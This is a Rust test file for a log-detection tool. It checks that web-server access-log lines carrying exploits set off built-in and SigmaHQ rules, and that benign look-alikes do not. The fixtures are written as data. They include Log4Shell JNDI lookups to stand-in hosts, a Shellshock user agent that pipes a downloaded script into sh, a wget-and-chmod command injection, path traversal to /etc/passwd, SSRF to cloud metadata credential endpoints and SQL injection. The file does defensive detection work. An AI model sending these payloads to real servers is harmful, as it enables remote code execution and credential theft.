//! Web attacks in access logs, end to end: nginx, Apache, Envoy (Istio) and Traefik lines that
//! carry an exploit go through `crowsnest-normalize` as container log lines (CRI and Docker
//! json-file) and as standalone lines (`source=nginx|apache|envoy|traefik`, JSON access
//! records), then through the built-in pack and SigmaHQ's `category: webserver` rules, unchanged.
//! Each must fire; the benign look-alikes next to them must fire nothing.

use std::path::PathBuf;

use crowsnest_detect::{Detector, RuleSet};
use crowsnest_model::Event;
use crowsnest_normalize::registry::{self, parse_lines, Source};
use crowsnest_normalize::Limits;
use serde_json::json;

const SIGMAHQ: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/testdata/sigma/sigmahq-all"
);

/// The built-in pack plus SigmaHQ's web rules and its Log4Shell (CVE-2021-44228) rules.
fn detector() -> Detector {
    let (builtin, _) = RuleSet::builtin();
    let mut paths = vec![
        PathBuf::from(SIGMAHQ).join("rules/web/webserver_generic"),
        PathBuf::from(SIGMAHQ).join("rules-emerging-threats/2021/Exploits/CVE-2021-44228"),
    ];
    paths.retain(|p| p.is_dir());
    assert_eq!(paths.len(), 2, "SigmaHQ test data under {SIGMAHQ}");
    let (rules, report) = RuleSet::load(&paths, true);
    for file in report.files.iter().filter(|f| !f.problems.is_empty()) {
        println!("{}: {:?}", file.path.display(), file.problems);
    }
    assert_eq!(report.loaded_files(), report.files.len());
    assert!(rules.len() >= builtin.len() + 14, "{}", rules.len());
    Detector::new(rules)
}

/// How a line reaches us.
#[derive(Debug, Clone, Copy)]
enum Via {
    Cri,
    Docker,
    /// nginx's `access_log syslog:server=...` (RFC 3164, tag `nginx`).
    Syslog,
    Named(&'static str),
}

fn decode(via: Via, line: &str) -> Event {
    let limits = Limits::default();
    let (record, parser) = match via {
        Via::Cri => (
            format!("2024-05-01T10:00:00.000000001Z stdout F {line}"),
            "cri",
        ),
        Via::Docker => (
            json!({"log": format!("{line}\n"), "stream": "stdout", "time": "2024-05-01T10:00:00Z"})
                .to_string(),
            "docker",
        ),
        Via::Syslog => (
            format!("<190>May  1 10:00:00 web-1 nginx: {line}"),
            "syslog",
        ),
        Via::Named(name) => (line.to_string(), name),
    };
    let parser = registry::by_name(parser).expect("registered");
    let mut decoded = parse_lines(record.as_bytes(), Source::Named(parser), &limits);
    assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
    assert_eq!(decoded.events.len(), 1);
    decoded.events.remove(0)
}

fn nginx(method: &str, target: &str, referrer: &str, agent: &str) -> String {
    format!(
        r#"203.0.113.7 - - [01/May/2024:10:00:00 +0000] "{method} {target} HTTP/1.1" 200 612 "{referrer}" "{agent}" "-""#
    )
}

fn apache(method: &str, target: &str, referrer: &str, agent: &str) -> String {
    format!(
        r#"203.0.113.7 - - [01/May/2024:10:00:00 +0200] "{method} {target} HTTP/1.1" 200 2326 "{referrer}" "{agent}""#
    )
}

fn envoy(method: &str, target: &str, _referrer: &str, agent: &str) -> String {
    format!(
        r#"[2024-05-01T10:00:00.310Z] "{method} {target} HTTP/1.1" 200 - via_upstream - "-" 0 1234 15 14 "198.51.100.9" "{agent}" "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2" "shop.example.com" "10.244.1.5:8080" outbound|80||shop.default.svc.cluster.local 10.244.1.5:54321 10.244.1.5:8080 198.51.100.9:41604 - default"#
    )
}

fn traefik(method: &str, target: &str, referrer: &str, agent: &str) -> String {
    format!(
        r#"198.51.100.20 - - [01/May/2024:10:00:00 +0000] "{method} {target} HTTP/1.1" 200 0 "{referrer}" "{agent}" 262 "shop@kubernetes" "http://10.42.0.12:8080" 2ms"#
    )
}

fn nginx_json(method: &str, target: &str, referrer: &str, agent: &str) -> String {
    json!({
        "time_iso8601": "2024-05-01T10:00:00+00:00", "remote_addr": "203.0.113.7",
        "request_method": method, "request_uri": target, "server_protocol": "HTTP/1.1",
        "status": 200, "body_bytes_sent": 10, "http_referer": referrer, "http_user_agent": agent
    })
    .to_string()
}

type Format = fn(&str, &str, &str, &str) -> String;

/// Every format through every way it arrives.
fn shapes() -> Vec<(&'static str, Format, Via)> {
    vec![
        ("nginx in CRI", nginx as Format, Via::Cri),
        ("nginx in docker", nginx, Via::Docker),
        ("nginx standalone", nginx, Via::Named("nginx")),
        ("nginx via syslog", nginx, Via::Syslog),
        ("nginx JSON in CRI", nginx_json, Via::Cri),
        ("nginx JSON standalone", nginx_json, Via::Named("nginx")),
        ("apache in docker", apache, Via::Docker),
        ("apache standalone", apache, Via::Named("apache")),
        ("envoy in CRI", envoy, Via::Cri),
        ("envoy standalone", envoy, Via::Named("envoy")),
        ("traefik in docker", traefik, Via::Docker),
        ("traefik standalone", traefik, Via::Named("traefik")),
    ]
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0";

struct Attack {
    name: &'static str,
    method: &'static str,
    target: &'static str,
    referrer: &'static str,
    agent: &'static str,
    /// Rule titles of which at least one must fire (built-in first, SigmaHQ where it has one).
    builtin: &'static str,
    sigmahq: Option<&'static str>,
}

fn attacks() -> Vec<Attack> {
    let a = |name, method, target, agent, builtin, sigmahq| Attack {
        name,
        method,
        target,
        referrer: "-",
        agent,
        builtin,
        sigmahq,
    };
    vec![
        a(
            "Log4Shell in the user agent",
            "GET",
            "/",
            "${jndi:ldap://198.51.100.66:1389/Exploit}",
            "Log4Shell JNDI Or Nested Lookup In A Web Request",
            Some("Log4j RCE CVE-2021-44228 Generic"),
        ),
        a(
            "Log4Shell nested lower lookups in the query",
            "GET",
            "/search?q=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
            BROWSER,
            "Log4Shell JNDI Or Nested Lookup In A Web Request",
            Some("Log4j RCE CVE-2021-44228 in Fields"),
        ),
        a(
            "Log4Shell ::- obfuscation in the user agent",
            "GET",
            "/",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "Log4Shell JNDI Or Nested Lookup In A Web Request",
            Some("Log4j RCE CVE-2021-44228 Generic"),
        ),
        a(
            "Log4Shell jndi with obfuscated protocol, URL-encoded",
            "GET",
            "/x?v=%24%7Bjndi:%24%7Blower:l%7D%24%7Blower:d%7Da%24%7Blower:p%7D://evil.example/x%7D",
            BROWSER,
            "Log4Shell JNDI Or Nested Lookup In A Web Request",
            Some("Log4j RCE CVE-2021-44228 Generic"),
        ),
        a(
            "Shellshock in the user agent",
            "GET",
            "/cgi-bin/status",
            "() { :; }; /bin/bash -c 'wget http://198.51.100.66/x -O- | sh'",
            "Shellshock Function Definition In A Web Request",
            None,
        ),
        a(
            "path traversal to /etc/passwd",
            "GET",
            "/download?file=../../../../etc/passwd",
            BROWSER,
            "Path Traversal Or Local File Read In A Web Request",
            Some("Path Traversal Exploitation Attempts"),
        ),
        a(
            "encoded path traversal",
            "GET",
            "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/hosts",
            BROWSER,
            "Path Traversal Or Local File Read In A Web Request",
            None,
        ),
        a(
            "SSRF to AWS metadata",
            "GET",
            "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            BROWSER,
            "Cloud Metadata Address In A Web Request (SSRF)",
            None,
        ),
        a(
            "SSRF to GCP metadata",
            "GET",
            "/proxy?u=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            BROWSER,
            "Cloud Metadata Address In A Web Request (SSRF)",
            None,
        ),
        a(
            "SSRF to the AWS IPv6 metadata address",
            "GET",
            "/preview?target=http://[fd00:ec2::254]/latest/api/token",
            BROWSER,
            "Cloud Metadata Address In A Web Request (SSRF)",
            None,
        ),
        a(
            "webshell probe",
            "GET",
            "/uploads/shell.php",
            BROWSER,
            "Webshell Access Or Command Injection Probe In A Web Request",
            None,
        ),
        a(
            "command in cmd=",
            "GET",
            "/index.php?cmd=whoami",
            BROWSER,
            "Webshell Access Or Command Injection Probe In A Web Request",
            None,
        ),
        a(
            "download and run in exec=",
            "GET",
            "/cgi-bin/luci?exec=cd+/tmp;wget+http://198.51.100.66/mips;chmod+777+mips",
            BROWSER,
            "Webshell Access Or Command Injection Probe In A Web Request",
            None,
        ),
    ]
}

fn fired(det: &mut Detector, event: &Event) -> Vec<String> {
    det.process(event).into_iter().map(|d| d.title).collect()
}

#[test]
fn exploits_in_every_access_log_shape_fire_builtin_and_sigmahq_rules() {
    let mut det = detector();
    let mut misses = Vec::new();
    let mut checked = 0;
    for attack in attacks() {
        for (shape, format, via) in shapes() {
            let line = format(attack.method, attack.target, attack.referrer, attack.agent);
            let event = decode(via, &line);
            assert!(
                event.get("url.original").is_some(),
                "{shape}: not mapped: {event:?}"
            );
            let titles = fired(&mut det, &event);
            checked += 1;
            if !titles.iter().any(|t| t == attack.builtin) {
                misses.push(format!("{} / {shape}: {titles:?}", attack.name));
            }
            if let Some(sigma) = attack.sigmahq {
                // Envoy's default format does not log the referrer; every shape logs UA and URL.
                if !titles.iter().any(|t| t == sigma) {
                    misses.push(format!(
                        "{} / {shape}: no SigmaHQ {sigma}: {titles:?}",
                        attack.name
                    ));
                }
            }
        }
    }
    println!("{checked} exploit lines checked");
    assert!(misses.is_empty(), "{misses:#?}");
}

#[test]
fn log4shell_in_the_referrer_fires_where_the_referrer_is_logged() {
    let mut det = detector();
    for (shape, format, via) in shapes() {
        if shape.starts_with("envoy") {
            continue; // Envoy's and Istio's default formats do not log the referrer
        }
        let line = format(
            "GET",
            "/login",
            "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
            BROWSER,
        );
        let event = decode(via, &line);
        let titles = fired(&mut det, &event);
        assert!(
            titles
                .iter()
                .any(|t| t == "Log4Shell JNDI Or Nested Lookup In A Web Request"),
            "{shape}: {titles:?}"
        );
        assert!(
            titles
                .iter()
                .any(|t| t == "Log4j RCE CVE-2021-44228 in Fields"),
            "{shape}: {titles:?}"
        );
    }
}

#[test]
fn benign_look_alikes_fire_nothing() {
    let mut det = detector();
    let mut builtin_only = Detector::new(RuleSet::builtin().0);
    // (request, whether SigmaHQ's rules stay quiet too: its SSTI rule matches any `=${` and
    // its Windows webshell rule any `=curl+`, so those two are checked against the pack only).
    let benign = [
        (
            "GET",
            "/static/app.js?v=3",
            "https://shop.example.com/",
            BROWSER,
            true,
        ),
        ("GET", "/render?tpl=${name}&x=${price}", "-", BROWSER, false),
        ("GET", "/docs/guide/../index.html", "-", BROWSER, true),
        ("GET", "/blog/how-to-read-passwd-files", "-", BROWSER, true),
        (
            "GET",
            "/docs/aws/instance-metadata-service",
            "-",
            BROWSER,
            true,
        ),
        ("GET", "/fetch?url=http://169.254.10.1/", "-", BROWSER, true),
        ("GET", "/api/run?cmd=list&page=2", "-", BROWSER, true),
        ("GET", "/search?q=curl+examples", "-", "curl/8.5.0", false),
        ("POST", "/api/orders", "-", "python-requests/2.31.0", true),
        ("GET", "/healthz", "-", "kube-probe/1.30", true),
        (
            "GET",
            "/",
            "-",
            "Mozilla/5.0 function() { return 1; }",
            true,
        ),
    ];
    let mut noisy = Vec::new();
    for (method, target, referrer, agent, sigmahq_quiet) in benign {
        for (shape, format, via) in shapes() {
            let event = decode(via, &format(method, target, referrer, agent));
            let titles = if sigmahq_quiet {
                fired(&mut det, &event)
            } else {
                fired(&mut builtin_only, &event)
            };
            if !titles.is_empty() {
                noisy.push(format!("{target} / {shape}: {titles:?}"));
            }
        }
    }
    assert!(noisy.is_empty(), "{noisy:#?}");
}

#[test]
fn sigmahq_webserver_taxonomy_maps_to_ecs() {
    let mut det = detector();
    // cs-method + cs-uri-query (F5 iControl bash endpoint).
    let post = decode(
        Via::Cri,
        &nginx("POST", "/mgmt/tm/util/bash", "-", "curl/8.5.0"),
    );
    let titles = fired(&mut det, &post);
    assert!(
        titles
            .iter()
            .any(|t| t == "F5 BIG-IP iControl Rest API Command Execution - Webserver"),
        "{titles:?}"
    );
    let get = decode(
        Via::Cri,
        &nginx("GET", "/mgmt/tm/util/bash", "-", "curl/8.5.0"),
    );
    assert!(!fired(&mut det, &get)
        .iter()
        .any(|t| t.starts_with("F5 BIG-IP")));
    // cs-method + keywords, and sc-status as a number: a 404 is filtered out.
    let sqli = "/items?id=1%20UNION%20SELECT%20password%20FROM%20users";
    let hit = decode(Via::Named("envoy"), &envoy("GET", sqli, "-", "curl/8.5.0"));
    assert!(fired(&mut det, &hit)
        .iter()
        .any(|t| t == "SQL Injection Strings In URI"));
    let not_found =
        envoy("GET", sqli, "-", "curl/8.5.0").replace("HTTP/1.1\" 200", "HTTP/1.1\" 404");
    let miss = decode(Via::Named("envoy"), &not_found);
    assert_eq!(miss.get("http.response.status_code"), Some(&json!(404)));
    assert!(!fired(&mut det, &miss)
        .iter()
        .any(|t| t == "SQL Injection Strings In URI"));
    // cs-user-agent.
    let scan = decode(Via::Docker, &traefik("GET", "/", "-", "sqlmap/1.8#stable"));
    assert!(fired(&mut det, &scan)
        .iter()
        .any(|t| t == "Suspicious User-Agents Related To Recon Tools"));
}

#[test]
fn java_errors_in_container_logs_fire_the_app_log_rules() {
    let mut det = detector();
    let cases = [
        (
            "2024-05-01 10:00:00,123 main ERROR Error looking up JNDI resource [ldap://198.51.100.66:1389/Exploit]. javax.naming.CommunicationException: 198.51.100.66:1389",
            Some("Remote JNDI Lookup Or Log4Shell Payload In An Application Log"),
        ),
        (
            "INFO c.e.shop.Search - query=${jndi:ldap://198.51.100.66:1389/a} results=0",
            Some("Remote JNDI Lookup Or Log4Shell Payload In An Application Log"),
        ),
        (
            "java.lang.ClassCastException: class org.apache.commons.collections.functors.InvokerTransformer cannot be cast to class java.lang.Comparable",
            Some("Java Deserialization Gadget Or Rejected Object Stream In An Application Log"),
        ),
        (
            "SEVERE: javax.naming.NameNotFoundException: Name [jdbc/shop] is not bound in this Context. Unable to find [jdbc].",
            None,
        ),
        ("java.lang.IllegalStateException: cart is empty", None),
    ];
    for (line, rule) in cases {
        for via in [Via::Cri, Via::Docker] {
            let event = decode(via, line);
            assert!(event.get("url.original").is_none(), "{line}");
            let titles = fired(&mut det, &event);
            match rule {
                Some(rule) => assert!(titles.iter().any(|t| t == rule), "{line}: {titles:?}"),
                None => assert!(titles.is_empty(), "{line}: {titles:?}"),
            }
        }
    }
}
